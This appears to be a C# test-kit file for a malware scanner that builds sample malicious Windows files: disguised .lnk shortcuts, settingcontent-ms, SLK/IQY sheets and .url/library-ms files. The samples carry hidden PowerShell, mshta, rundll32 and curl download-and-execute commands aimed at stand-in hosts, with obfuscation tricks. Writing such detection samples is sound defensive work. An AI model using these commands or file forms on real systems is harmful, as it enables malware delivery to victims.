using System.Text;

namespace ScanHost.TestKit.Techniques;

/// <summary>A Windows shortcut that starts PowerShell.</summary>
public sealed class LinkPowerShell : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        const string PowerShell = @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
        var encoded = InertFiles.EncodedCommand("iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')");
        return
        [
            ("invoice.pdf.lnk", new LinkBuilder().To(PowerShell).With("-w hidden -enc " + encoded).Icon(@"C:\Program Files\Adobe\AcroRd32.exe").Build()),
            ("a.lnk", new LinkBuilder().To(@"C:\Windows\System32\cmd.exe").With("/c start /min powershell -nop -w hidden -c \"iex (irm http://192.0.2.1/b)\"").Build()),
            ("b.lnk", new LinkBuilder().To(PowerShell).With(new string(' ', 300) + "-nop -w hidden -e " + encoded).From("desktop-test").Build()),
            ("c.lnk", new LinkBuilder().Environment(@"%windir%\system32\cmd.exe").With("/c powershell -ep bypass -w hidden -c \"iwr http://192.0.2.1/a | iex\"").Append(new byte[] { 1, 2, 3, 4 }).Build()),
        ];
    }
}

/// <summary>A Windows shortcut that has a launcher fetch a script.</summary>
public sealed class LinkMshta : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("a.lnk", new LinkBuilder().To(@"C:\Windows\System32\mshta.exe").With("http://192.0.2.1/a.hta").Icon("a.pdf").Build()),
        ("b.lnk", new LinkBuilder().To(@"C:\Windows\System32\cmd.exe").With("/c" + new string(' ', 200) + "mshta https://host.invalid/b.hta").Build()),
        ("c.lnk", new LinkBuilder().To(@"C:\Windows\System32\rundll32.exe").With(@"\\192.0.2.1\share\c.dll,Entry").Icon(@"C:\Office\winword.exe").Build()),
        ("d.lnk", new LinkBuilder().To(@"C:\Windows\System32\cmd.exe").With("/c curl -o %temp%\\d.exe http://192.0.2.1/d.exe && %temp%\\d.exe").Append(InertFiles.Pe()).Build()),
    ];
}

/// <summary>A Windows setting that starts a shell.</summary>
public sealed class SettingContent : Technique
{
    public override IEnumerable<(string Name, byte[] Content)> Variants() => new[]
    {
        "%windir%\\system32\\cmd.exe /c powershell -nop -w hidden -enc " + InertFiles.EncodedCommand("iex (irm http://192.0.2.1/a)"), "powershell.exe -ep bypass -w hidden -c \"iex (iwr http://192.0.2.1/b)\"",
        "C:\\Windows\\System32\\mshta.exe http://192.0.2.1/c.hta &amp; p^o^w^e^r^s^h^e^l^l -w hidden -nop", "cmd.exe /c p^o^w^e^r^s^h^e^l^l -nop -w hidden -c iex (irm http://192.0.2.1/d)",
    }.Select((command, at) => ($"a{at}.settingcontent-ms", Encoding.UTF8.GetBytes(
        $"<?xml version=\"1.0\"?><PCSettings><SearchableContent xmlns=\"http://schemas.microsoft.com/Search/2013/SettingContent\"><ApplicationInformation><DeepLink>{command}</DeepLink></ApplicationInformation></SearchableContent></PCSettings>")));
}

/// <summary>Sheets and queries in text that fetch or start something.</summary>
public sealed class TextSheets : Technique
{
    public override bool IsOfOneKind => true;

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("a.iqy", "WEB\r\n1\r\nhttp://192.0.2.1/a.dat\r\n"u8.ToArray()),
        ("b.iqy", "WEB\r\n1\r\nhttps://host.invalid/b.php?q=1\r\n"u8.ToArray()),
        ("a.slk", "ID;P\r\nO;E\r\nC;X1;Y101;EEXEC(\"powershell -nop -w hidden -c x\")\r\nC;X1;Y102;EHALT()\r\nE\r\n"u8.ToArray()),
        ("b.slk", "ID;P\r\nC;X1;Y1;Ecmd|'/c powershell -w hidden -nop'!A1\r\nE\r\n"u8.ToArray()),
    ];
}

/// <summary>Internet shortcuts and libraries that lead to a stranger's folder.</summary>
public sealed class RemoteFolders : Technique
{
    public override bool IsOfOneKind => true;

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("a.url", "[InternetShortcut]\r\nURL=file://192.0.2.1/share/invoice.exe\r\nIconFile=\\\\192.0.2.1\\share\\a.ico\r\n"u8.ToArray()),
        ("b.url", "[InternetShortcut]\r\nURL=\\\\host.invalid@80\\a\\b.lnk\r\n"u8.ToArray()),
        ("a.library-ms", "<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><simpleLocation><url>\\\\192.0.2.1\\share</url></simpleLocation></libraryDescription>"u8.ToArray()),
        ("b.library-ms", "<?xml version=\"1.0\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><simpleLocation><url>https://dav.invalid/share</url></simpleLocation></libraryDescription>"u8.ToArray()),
    ];
}
